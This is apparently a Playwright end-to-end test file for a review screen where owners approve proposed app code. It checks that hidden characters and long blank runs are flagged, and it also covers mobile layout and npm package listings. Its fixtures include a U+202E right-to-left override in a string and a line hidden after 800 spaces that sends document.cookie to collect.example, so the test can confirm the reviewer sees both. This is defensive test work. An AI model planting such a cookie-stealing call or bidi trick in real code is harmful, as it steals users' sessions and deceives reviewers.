import { proposeApp } from '../test-support/proposeApp.ts';
import { E2E_OWNER_TOKEN } from './env.ts';
import { expect, test } from './fixtures.ts';
import { noSeriousViolations } from './noSeriousViolations.ts';
import { createRoom, ownerAuth } from './rooms.ts';

// A proposal's card: every file shown, hidden characters and long lines flagged; the large-file stall test is in review-stall.spec.ts.
test('an owner reviews every file, sees hidden characters flagged, approves, and a second context gets the tab live', async ({
  owner,
  ownerPage: page,
  browser,
  request,
}) => {
  const roomId = await createRoom(request, `Review ${Date.now()}`);
  const watcherContext = await browser.newContext();
  const watcher = await watcherContext.newPage();
  await watcher.goto(`/?token=${E2E_OWNER_TOKEN}`);
  await expect(watcher.getByRole('heading', { name: 'Your rooms' })).toBeVisible();
  await watcher.goto(`/rooms/${roomId}`);
  await expect(watcher.getByText('No apps in this room yet.')).toBeVisible();

  await proposeApp(owner, roomId, {
    name: 'Poll <b>maker</b>',
    files: {
      'src/App.tsx':
        'const label = "admin\u202E";\nexport default function App() {\n  return <p>{label}</p>;\n}\n',
      'src/util.ts': 'export const x = 1;\n',
    },
  });
  await page.goto(`/rooms/${roomId}`);
  await page.getByRole('link', { name: 'Needs your approval' }).click();
  const card = page.getByRole('article', { name: 'Poll <b>maker</b>' });
  await expect(card.getByRole('heading', { name: 'Poll <b>maker</b>' })).toBeVisible();
  await expect(card.getByText(/^Proposed by Owner · /)).toBeVisible();
  // Flagged at the top of the card, with the file and the line.
  await expect(
    card.getByText('Hidden or direction-changing characters in src/App.tsx (line 1)'),
  ).toBeVisible();
  await expect(card).toContainText(
    'Approval makes this code available in the Room app launcher. Review the files before approving.',
  );
  await expect(card.getByRole('heading', { name: 'Review all proposed files (2)' })).toBeVisible();
  await expect(card.getByRole('region', { name: 'src/App.tsx source' })).toContainText('export default');
  await expect(card.getByText(/Hidden or direction-changing characters in this file: U\+202E/)).toBeVisible();
  await expect(card.getByText('Line 1: U+202E RIGHT-TO-LEFT OVERRIDE')).toBeVisible();
  // The override shows as a mark instead of reordering the line the reviewer reads.
  await expect(card.locator('mark.unsafe-char[title="U+202E RIGHT-TO-LEFT OVERRIDE"]')).toHaveText('U+202E');
  await expect(card.locator('.line-no.flagged')).toHaveText(['1']);
  await expect(card.getByRole('region', { name: 'File src/util.ts' }).getByRole('note')).toHaveCount(0);
  await expect(card.locator('.line-no').first()).toHaveText('1');
  await noSeriousViolations(page);

  await card.getByRole('button', { name: 'Approve and create' }).click();
  await expect(page.getByRole('article')).toHaveCount(0);
  await expect(
    watcher.getByRole('tablist', { name: 'Apps' }).getByRole('tab', { name: 'Poll <b>maker</b>' }),
  ).toBeVisible({
    timeout: 15_000,
  });
  await page.getByRole('link', { name: 'Open Poll <b>maker</b>' }).click();
  await expect(page.getByRole('tab', { name: 'Poll <b>maker</b>' })).toHaveAttribute('aria-selected', 'true');
  await noSeriousViolations(page);

  const { apps } = (await (await request.get(`/api/rooms/${roomId}`, { headers: ownerAuth })).json()) as {
    apps: { id: string }[];
  };
  expect(
    (await request.delete(`/api/rooms/${roomId}/apps/${apps[0]?.id}`, { headers: ownerAuth })).ok(),
  ).toBe(true);
  await expect(watcher.getByRole('tab', { name: 'Poll <b>maker</b>' })).toHaveCount(0, { timeout: 15_000 });
  await watcherContext.close();
});

test('the review page works at 360 px: no horizontal scroll, no serious accessibility violations', async ({
  owner,
  ownerPage: page,
  request,
}) => {
  const roomId = await createRoom(request, `Narrow ${Date.now()}`);
  await proposeApp(owner, roomId, {
    name: 'A rather long proposal name that has to wrap on a phone screen',
    files: {
      'src/App.tsx': `export default function App() {\n  return <p>${'wide '.repeat(60)}</p>;\n}\n`,
      'src/components/deeply/nested/folder/with/a/long/path/Widget.tsx': 'export const W = () => null;\n',
    },
  });
  await page.setViewportSize({ width: 360, height: 740 });
  await page.goto(`/rooms/${roomId}/review`);
  const card = page.getByRole('article');
  await expect(card.getByRole('heading', { name: 'Review all proposed files (2)' })).toBeVisible();
  await expect(card.locator('td.hljs').first()).toBeVisible();
  await card.getByRole('button', { name: 'Decline' }).click();
  await expect(card.getByLabel('Reason (optional)')).toBeVisible();
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
  await noSeriousViolations(page);
});

test('code after 800 spaces stays in view on the card, and the card names the file and line', async ({
  owner,
  ownerPage: page,
  request,
}) => {
  const roomId = await createRoom(request, `Hidden code ${Date.now()}`);
  const line = `export default function App() { return <p>Clean</p>; }${' '.repeat(800)}fetch('https://collect.example/?' + document.cookie);`;
  const data = Array.from({ length: 80 }, (_, i) => `export const v${i} = ${i};`).join('\n');
  await proposeApp(owner, roomId, {
    name: 'Clean app',
    files: { 'src/App.tsx': `${line}\n`, 'src/data.ts': `${data}\n` },
  });
  await page.goto(`/rooms/${roomId}/review`);
  const card = page.getByRole('article', { name: 'Clean app' });
  await expect(card.getByText('Long lines or long runs of blanks in src/App.tsx (line 1)')).toBeVisible();
  await expect(card.getByRole('heading', { name: 'Review all proposed files (2)' })).toBeVisible();
  const box = card.getByRole('region', { name: 'src/App.tsx source' });
  await expect(box.locator('td.hljs').first()).toBeVisible();
  await expect(card.getByText(`Line 1: ${line.length} characters, 800 spaces`)).toBeVisible();
  await expect(box.locator('mark.blank-run[title="800 spaces"]')).toHaveText('800 spaces');
  await expect(box.locator('.line-no.flagged')).toHaveText(['1']);
  // Geometry: the fetch is inside the code box and the card as drawn, with no horizontal scroll.
  const seen = await box.evaluate((el) => {
    const walker = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
    for (let n = walker.nextNode(); n; n = walker.nextNode()) {
      const at = n.textContent?.indexOf('fetch') ?? -1;
      if (at < 0) continue;
      const range = document.createRange();
      range.setStart(n, at);
      range.setEnd(n, at + 'fetch'.length);
      const rect = (r: DOMRect) => ({ left: r.left, right: r.right, top: r.top, bottom: r.bottom });
      return {
        text: rect(range.getBoundingClientRect()),
        box: rect(el.getBoundingClientRect()),
        card: rect((el.closest('article') as HTMLElement).getBoundingClientRect()),
        overflowX: el.scrollWidth - el.clientWidth,
      };
    }
    return undefined;
  });
  expect(seen).toBeDefined();
  const { text, box: area, card: article, overflowX } = seen as NonNullable<typeof seen>;
  expect(overflowX).toBeLessThanOrEqual(0);
  for (const outer of [area, article]) {
    expect(text.left).toBeGreaterThanOrEqual(outer.left);
    expect(text.right).toBeLessThanOrEqual(outer.right);
    expect(text.top).toBeGreaterThanOrEqual(outer.top);
    expect(text.bottom).toBeLessThanOrEqual(outer.bottom);
  }
  // What sits below a file's box is said in words until the reviewer scrolls to the end.
  const data81 = card.getByRole('region', { name: 'File src/data.ts' });
  await expect(data81.getByText('More below: scroll the box to read all 81 lines.')).toBeVisible();
  await expect(card.getByRole('region', { name: 'File src/App.tsx' }).getByText(/More below/)).toHaveCount(0);
  await data81.getByRole('region', { name: 'src/data.ts source' }).evaluate((el) => {
    el.scrollTop = el.scrollHeight;
  });
  await expect(data81.getByText(/More below/)).toHaveCount(0);
  await page.screenshot({ path: 'test-results/hidden-code-card.png', fullPage: false });
});

test('a package proposal lists each package with its version, expected path and unpacked size', async ({
  owner,
  ownerPage: page,
  request,
}) => {
  const roomId = await createRoom(request, `Packages card ${Date.now()}`);
  // Resolved offline from the e2e npm cache; nothing is built for a pending proposal.
  const proposal = await proposeApp(owner, roomId, {
    name: 'Dated',
    files: {
      'src/App.tsx':
        "import { format } from 'date-fns';\nexport default function App() {\n  return <p>{format(new Date(0), 'yyyy')}</p>;\n}\n",
    },
  });
  const dateFns = proposal.packages?.find((p) => p.name === 'date-fns');
  // The shared server builds no bundles (ROOM_PACKAGE_BUNDLES=0), so every package is expected in Sandpack.
  expect(proposal.expected_path).toBe('sandpack');
  expect(proposal.expected_note).toContain('builds no package bundles');
  expect(dateFns).toMatchObject({ role: 'direct', expected_path: 'sandpack' });
  const size = dateFns?.unpacked_size ?? null;
  expect(Number.isSafeInteger(size) && (size as number) > 100_000).toBe(true);

  await page.goto(`/rooms/${roomId}/review`);
  const card = page.getByRole('article', { name: 'Dated' });
  const packages = card.getByRole('region', { name: 'npm packages' });
  await expect(packages).toContainText('Expected to run with Sandpack');
  const own = packages.getByRole('list', { name: "The app's npm packages" });
  await expect(own.getByRole('listitem').filter({ hasText: /^date-fns / })).toHaveText(
    // Binary units, as the 128 MiB tree limit counts.
    `date-fns ${dateFns?.version} · Sandpack · ${((size as number) / 1024 / 1024).toFixed(1)} MB ${dateFns?.license}`,
  );
  await expect(own.getByRole('listitem').filter({ hasText: /^react / })).toContainText(' · Sandpack · ');
  await expect(packages).toContainText(/\d+ packages, [\d.]+ MB unpacked in all\./);
  await noSeriousViolations(page);
});
